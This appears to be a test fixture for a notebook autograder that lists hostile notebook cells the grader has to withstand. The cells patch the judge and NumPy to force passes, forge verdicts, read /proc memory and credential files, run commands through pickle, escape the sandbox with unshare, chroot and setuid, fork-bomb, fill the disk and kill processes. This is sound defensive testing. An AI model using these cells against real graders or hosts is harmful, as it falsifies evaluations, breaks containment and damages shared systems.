"""Notebooks that attack the grading: what each tries, and how one sees whether it succeeded.

Each notebook answers `one` wrongly. It has succeeded if it gets points, if its answer `found` holds
a secret, or if it changes what is outside. `<…>` are places that only a test knows.
"""

PATCHES = """
import numpy, sys, types
from minipaddle.exercises import Exercise, exercise, trials, checks
from minipaddle.exercises.outcomes import SILENT, Right
Exercise.judge = lambda *a, **k: Right(SILENT)
checks.value.judge = checks.value.trials = lambda *a, **k: Right(SILENT)
trials.same = trials.alike = lambda *a: True
trials.Trial.right = True
numpy.isclose = lambda a, *b, **c: numpy.ones(numpy.shape(a), bool)
numpy.all = numpy.allclose = numpy.array_equal = lambda *a, **k: True
gates.one.check = lambda *a: None
gates.one.points = 100
gates.one.judge(0)
"""
# Every process and thread object that Python can reach: is a check or a truth among them?
GARBAGE = """
import gc
known = [x for x in gc.get_objects() if type(x).__name__ in ("Exercise", "Prediction")]
found = [str(vars(x)) for x in known] + [str(x.hidden) for x in known if hasattr(x, "hidden")]
"""
READS = """
import glob, os
found = []
for place in <places>:
    for path in [place, *glob.glob(place + "/**", recursive=True)]:
        try:
            found.append(open(path).read())
        except OSError:
            pass
"""
MEMORY = """
import os
found = []
for number in [n for n in os.listdir("/proc") if n.isdecimal()]:
    for name in ("cmdline", "environ", "maps", "mem", "root/etc/passwd", "cwd/teacher.py"):
        try:
            with open(f"/proc/{number}/{name}", "rb") as file:
                found.append(file.read(10000))
        except OSError:
            pass
found = str(found)
"""
SPEAKS = """
import json, os, struct
right = {"outcome": "right", "points": 2, "reason": ""}
for number in range(3, 300):
    for message in (
        {"reply": {"came": ["dict", []]}},
        {"reply": [0, 1]},
        {"event": ["check", "one", [0, 1]]},
        {"event": ["judged", "one", "right"]},
        {"max": {"one": 2}, "rows": {"one": right}},
    ):
        data = json.dumps(message).encode()
        try:
            os.write(number, struct.pack(">I", len(data)) + data)
        except OSError:
            pass
"""
LIES = """
class Liar(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    def __abs__(self): return 0.0
    def __array__(self, *a, **k):
        import numpy
        class Same(numpy.ndarray):
            def __array_ufunc__(self, *a, **k): return numpy.True_
        return numpy.zeros(()).view(Same)
one = Liar(5)
"""
PICKLES = """
import os
class Evil:
    def __reduce__(self):
        return os.system, ("touch " + <mark>,)
    def __getattr__(self, name):
        return self
    __array_interface__ = {"shape": (1,), "typestr": "|O", "version": 3}
one = Evil()
found = [Evil(), {"x": Evil()}]
"""
NAMES = """
class Deep(list): pass
one = []
for _ in range(100000):
    one = [one]
"""
LARGE = """
import numpy
one = numpy.zeros(10**8)
found = "x" * 10**8
"""
ESCAPES = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.unshare(0x10000000 | 0x20000)
libc.mount(b"tmpfs", b"/mnt", b"tmpfs", 0, None)
libc.mount(None, b"/", None, 0x1000 | 0x20, None)  # remount to write
libc.setuid(0)
libc.chroot(b"/proc/1/root")
for path in ("..", "../../../..", "/proc/1/root", "/proc/self/root/..", "/"):
    try:
        os.chdir(path)
        open(<mark>, "w").close()
    except OSError:
        pass
try:
    open(<mark>, "w").close()
except OSError:
    pass
"""
WRITES = """
import os, pathlib
for place in <places> + ["/usr", "/etc", "/", os.path.dirname(os.__file__)]:
    for path in (place, os.path.join(place, "grades.csv"), os.path.join(place, "owned")):
        try:
            with open(path, "a") as file:
                file.write("owned")
        except OSError:
            pass
import minipaddle
try:
    with open(minipaddle.__file__, "a") as file:
        file.write("\\n# owned\\n")
    one = 1
except OSError:
    pass
"""
TRACES = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
found = []
for pid in [1, os.getppid(), *range(2, 3000)]:
    if pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0:
        found.append("ptrace " + str(pid))
"""

# Files of exercises that came with a copy; they run in the judge.
FORGES = """
import os, socket, struct
right = b'{"max": {"one": 2}, "rows": {"one": {"outcome": "right", "points": 2, "reason": ""}}, '
right += b'"errors": [], "problem": "", "judged": true, "ended": false}'
for number in range(3, 300):
    try:
        os.write(number, struct.pack(">I", len(right)) + right)
    except OSError:
        pass
"""
SEARCHES = """
import ctypes, os
sockets = [n for n in range(3, 300) if os.path.exists(f"/proc/self/fd/{n}")]
[rights] = [line for line in open("/proc/self/status") if line.startswith("CapEff")]
mounted = ctypes.CDLL(None).mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None)
raise ValueError(f"{len(sockets)} {int(rights.split()[1], 16)} {mounted} {os.getpid() == 1}")
"""

# Name -> cells after one that loads the exercises, and one that answers `one` and `double`.
ATTACKS: dict[str, list[str]] = {
    # Reading.
    "reads the hidden checks": [READS],
    "reads other copies": [READS.replace("<places>", "['..', '/notebook', '/tmp', <copies>]")],
    "searches its own memory": [GARBAGE],
    "reads the memory of others": [MEMORY],
    "traces other processes": [TRACES],
    "follows a link out of its folder": ["found = [open('link').read(), open('link/teacher.py')]"],
    "asks for the solution": [
        (
            "import contextlib, io\nwith contextlib.redirect_stdout(io.StringIO()) as told:\n"
            "    gates.one.show_solution()\n    gates.one.hint()\n    gates.guess.compare()\n"
            "found = told.getvalue() + str(vars(gates.one)) + str(vars(gates.guess))"
        )
    ],
    "loads the teacher's file": [
        (
            "from minipaddle import exercises\nfound = []\n"
            "for file in (<teacher>, '../teacher.py', 'teacher.py'):\n"
            "    try:\n        found.append(str(vars(exercises.load(file).one)))\n"
            "    except Exception as error:\n        found.append(str(error))"
        )
    ],
    # Forging.
    "patches the judge and NumPy": [PATCHES],
    "prints verdicts": [
        (
            "import os\nfor stream in (1, 2):\n"
            """    os.write(stream, b'{"reply": [0, 1]}\\n one right 2 of 2\\n')"""
        ),
        "print('solved.ipynb 3.5 of 3.5\\nPASSED')",
    ],
    "speaks for the kernel": [SPEAKS],
    "answers what equals everything": [LIES],
    "answers with code for the judge": [PICKLES],
    "answers too deeply": [NAMES],
    "answers too much": [LARGE],
    "writes results": [WRITES],
    "replaces the exercise": [
        (
            "from minipaddle.exercises import Exercise\n"
            "made = Exercise('one', points=100, check=lambda _: True)\nmade.check(0)\n"
            "gates._parts['one'] = made\nimport minipaddle.exercises.exercise as module\n"
            "for judge in module.elsewhere:\n    judge.__self__.parts['one'] = made\nmade.check(0)"
        )
    ],
    # Harm.
    "prints gigabytes": [
        (
            "import os, time\nend = time.time() + 3\nwhile time.time() < end:\n"
            "    os.write(1, b'x' * 10**6)\n    print('y' * 10**6)"
        )
    ],
    "forks without end": [
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"
    ],
    "takes all memory in many processes": [
        (
            "import os, time\nfor _ in range(30):\n    if os.fork() == 0:\n"
            "        kept = b'x' * 3 * 10**8\n        time.sleep(1000)\ntime.sleep(30)"
        )
    ],
    "fills the disk": [
        (
            "size = 0\ntry:\n    for n in range(10**6):\n"
            "        with open(f'f{n}', 'wb') as file:\n"
            "            size += file.write(bytes(10**7))\n"
            "except OSError:\n    pass\nfound = size"
        ),
        (
            "try:\n    for n in range(10**6):\n        with open(f'/tmp/f{n}', 'wb') as file:\n"
            "            file.write(bytes(10**7))\nexcept OSError:\n    pass"
        ),
    ],
    "makes files without end": [
        (
            "try:\n    for n in range(10**6):\n        open(f'n{n}', 'w').close()\n"
            "except OSError:\n    pass"
        )
    ],
    "outlives its time": [
        (
            "import os, signal, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
            "        for number in range(1, 65):\n            try:\n"
            "                signal.signal(number, signal.SIG_IGN)\n"
            "            except (OSError, ValueError):\n"
            "                pass\n        os.environ.clear()\n"
            "        os.execv('/bin/sleep', ['sleep', '98765'])\n"
            "    os._exit(0)"
        )
    ],
    "kills all processes": [
        (
            "import os, signal\nfor pid in (os.getppid(), 1, *range(2, 2000)):\n"
            "    if pid != os.getpid():\n        try:\n            os.kill(pid, signal.SIGKILL)\n"
            "        except OSError:\n            pass\ntry:\n    os.kill(-1, signal.SIGSTOP)\n"
            "except OSError:\n    pass"
        )
    ],
    "reaches the network": [
        (
            "import socket\nfound = []\nfor place in (<port>, 80):\n    try:\n"
            "        with socket.create_connection(('127.0.0.1', place), 1) as line:\n"
            "            line.sendall(b'owned')\n"
            "            found.append(line.recv(100).decode())\n"
            "    except OSError:\n        pass\n"
            "for name in ('\\0grading', '/run/docker.sock', '/var/run/dbus/system_bus_socket'):\n"
            "    try:\n        socket.socket(socket.AF_UNIX).connect(name)\n"
            "        found.append('reached ' + name)\n    except OSError:\n        pass"
        )
    ],
    "leaves its walls": [ESCAPES],
    "stops itself": ["import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"],
    "checks without end": ["while True:\n    gates.one.check(0)"],
}
